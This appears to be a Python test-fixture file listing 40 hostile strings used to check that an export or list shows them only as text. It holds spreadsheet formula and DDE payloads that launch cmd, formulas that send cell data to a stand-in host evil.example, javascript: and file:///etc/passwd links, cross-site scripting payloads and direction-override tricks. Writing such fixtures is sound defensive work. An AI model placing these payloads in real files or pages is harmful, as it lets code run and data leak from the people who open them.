"""Texts that somebody could write to harm whoever opens a list: 40, for every kind of file.

`HOSTILE` has them by what they try. They go into names, bios, captions, brands and titles; what
comes out must show them, or what is left of them, as text and nothing else.
"""

from __future__ import annotations

HOSTILE: dict[str, str] = {
    # Formulas, for programs that take a text for one.
    "formula": "=1+1",
    "formula_plus": "+1+cmd",
    "formula_minus": "-2+3+cmd",
    "formula_at": "@SUM(1+1)*cmd",
    "formula_after_tab": "\t=1+1",
    "formula_after_return": "\r=1+1",
    "formula_after_newline": "\n=1+1",
    "formula_after_space": "  =1+1",
    "formula_after_no_break_space": "\u00a0=1+1",
    "formula_after_nul": "\x00=1+1",
    "formula_after_zero_width": "\u200b=1+1",
    "formula_after_byte_order_mark": "\ufeff=1+1",
    "formula_after_direction": "\u202e=1+1",
    "formula_full_width": "＝1+1",
    "formula_full_width_at": "＠SUM(1)",
    "formula_array": "{=SUM(1,1)}",
    # Programs and addresses that a formula can call.
    "dde": "=cmd|' /C calc'!A0",
    "dde_minus": "-cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example/?x="&A1,"点我")',
    "webservice": '=WEBSERVICE("https://evil.example/")',
    "import": '=IMPORTXML("https://evil.example/","//a")',
    # Links.
    "link": "https://evil.example/login",
    "link_script": "javascript:alert(1)",
    "link_file": "file:///etc/passwd",
    "link_mail": "mailto:a@evil.example?subject=x",
    "link_inside": "internal:Sheet2!A1",
    # Scripts and markup.
    "script": "<script>alert(1)</script>",
    "script_closing": "</script><script>alert(1)</script>",
    "script_image": '"><img src=x onerror=alert(1)>',
    "script_svg": "<svg/onload=alert`1`>",
    "script_template": "{{7*7}}${7*7}{% raw %}",
    "script_comment": "--><!-- <b>x</b> ]]>",
    # Characters that hide or turn what follows, or that files cannot hold.
    "control": "a\x00b\x07c\x1b[31md\x7f\x9fe",
    "right_to_left": "safe\u202egpj.exe\u202c \u2066x\u2069",
    "zero_width": "小\u200b红\u200d书\u2060\ufeff",
    "not_characters": "a\ufffe\uffffb",
    "line_separators": "a\u2028b\u2029c\x0bd\x0ce\x85f",
    # Delimiters, escapes and length.
    "csv": '",=1+1,"\r\n=2+2;=3+3\t=4+4',
    "escape": "_x003D_1+1 &#61; \\u003d",
    "long": "=长" * 20_000,
}
assert len(HOSTILE) == 40
